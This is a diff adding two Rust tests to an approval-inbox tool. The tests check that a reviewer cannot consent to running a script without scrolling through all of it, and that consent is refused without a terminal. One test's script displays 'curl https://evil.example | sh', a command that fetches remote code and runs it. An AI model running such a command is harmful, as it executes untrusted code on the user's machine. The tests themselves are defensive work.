@@ -88,6 +88,38 @@ fn the_inbox_waits_for_the_end_of_the_subject() {
 }
 
 #[test]
+fn a_leap_to_the_end_is_not_reading() {
+    let sandbox = Sandbox::new();
+    let id = sandbox.ask_document(&approval("Run the script?", &script()));
+    let mut inbox = inbox(&sandbox, &["--by", "bo"]);
+    inbox.shows("1 decision waits");
+    inbox.press("1");
+    inbox.shows("lines left to read before you consent");
+    inbox.press("sG");
+    inbox.shows("curl https://evil.example | sh");
+    inbox.press("u");
+    inbox.shows("lines left to read before you consent");
+    inbox.press("1");
+    inbox.shows("lines of the subject are left to read first: PgDn. U consents unread.");
+    at(&sandbox.show(&id), "/status", "pending");
+}
+
+#[test]
+fn without_a_terminal_nobody_reads_and_nobody_consents() {
+    let sandbox = Sandbox::new();
+    let id = sandbox.ask_document(&approval("Run?", "ls"));
+    for arguments in [&["review"][..], &["inbox", "--plain"]] {
+        let typed = if arguments[0] == "review" { "1\n\nq\n" } else { "1\n1\n\nq\n" };
+        let ran = sandbox.run_with(arguments, typed);
+        assert!(format!("{}{}", ran.out, ran.err).contains("needs its digest"), "{ran}");
+        at(&sandbox.show(&id), "/status", "pending");
+    }
+    // A no needs no reading.
+    sandbox.run_with(&["inbox", "--plain"], "1\n2\n\nq\n").exits(0);
+    at(&sandbox.show(&id), "/answer/values/c", "no");
+}
+
+#[test]
 fn the_inbox_ignores_keys_that_were_typed_ahead() {
     let sandbox = Sandbox::new();
     let ids: Vec<String> =
